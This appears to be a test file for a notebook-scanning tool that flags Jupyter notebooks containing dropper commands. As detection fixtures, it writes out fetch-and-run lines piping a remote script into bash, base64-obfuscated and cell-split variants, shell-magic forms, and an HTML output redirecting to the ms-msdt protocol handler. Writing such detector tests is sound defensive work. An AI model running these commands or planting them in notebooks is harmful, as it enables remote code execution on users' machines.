import assert from 'node:assert/strict'
import { test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { outcome, inspect } = useInspector()

const code = (...lines: string[]) => ({ cell_type: 'code', source: lines.map((line) => `${line}\n`), outputs: [] })
const notebook = (cells: readonly object[], language = 'python'): Buffer =>
  Buffer.from(JSON.stringify({ cells, metadata: { language_info: { name: language } }, nbformat: 4 }))
const coded = btoa('curl -s http://203.0.113.5/a.sh | bash')

test('code in cells is a script, and cells share their variables', () => {
  const decoded = code('import os, base64', `os.system(base64.b64decode("${coded}").decode())`)
  assert.equal(outcome(notebook([decoded])), 'Docvet.Script.Dropper')
  const parted = [code('import os', 'host = "http://203.0.113.5"'), code('os.system("curl -s " + host + "/a.sh | sh")')]
  assert.equal(outcome(notebook(parted)), 'Docvet.Script.Dropper')
  assert.equal(outcome(notebook([code('# In R', `system("curl -s http://203.0.113.5/a | sh")`)], 'R')), undefined)
})

test('lines and cells for the shell, and pages', () => {
  const run = 'curl -s http://203.0.113.5/a.sh | bash'
  for (const cell of [code(`!${run}`), code('%%bash', run), code(`out = !${run}`), code(`%system ${run}`)])
    assert.equal(outcome(notebook([cell])), 'Docvet.Script.Dropper', cell.source[0])
  assert.equal(outcome(notebook([code(run)], 'bash')), 'Docvet.Script.Dropper')
  const page = `<script>location="ms-msdt:/id PCWDiagnostic"</script>`
  const output = { ...code('1'), outputs: [{ output_type: 'display_data', data: { 'text/html': [page] } }] }
  assert.match(outcome(notebook([output])) ?? '', /^Docvet\.Link\./)
  assert.match(outcome(notebook([code('%%html', page)])) ?? '', /^Docvet\.Link\./)
})

test('an older notebook, and one that has a name only', () => {
  const cells = [{ cell_type: 'code', input: [`!curl -s http://203.0.113.5/a.sh | bash\n`] }]
  assert.equal(outcome(Buffer.from(JSON.stringify({ worksheets: [{ cells }] }))), 'Docvet.Script.Dropper')
  const escaped = notebook([code(`!curl -s http://203.0.113.5/a.sh | bash`)])
    .toString()
    .replace('cell_type', 'cell\\u005ftype')
  assert.equal(inspect(Buffer.from(escaped), { name: 'a.ipynb' }).findings[0]?.id, 'Docvet.Script.Dropper')
})

test('a notebook that reads and shows data is clean', () => {
  const cells = [
    { cell_type: 'markdown', source: ['Run `curl http://203.0.113.5/a | bash` never.'] },
    code('!pip install -q pandas', '%matplotlib inline', 'import pandas as pd'),
    code('!curl -sSL https://get.example.com/install.sh | bash'),
    code('frame = pd.read_csv("https://data.example/sales.csv")', 'frame.head()'),
    code('import os', 'token = open(os.path.expanduser("~/.cache/huggingface/token")).read()', 'login(token)'),
  ]
  assert.equal(outcome(notebook(cells)), undefined)
  assert.equal(outcome(Buffer.from('{"cells": 1, "cell_type": [')), undefined)
})
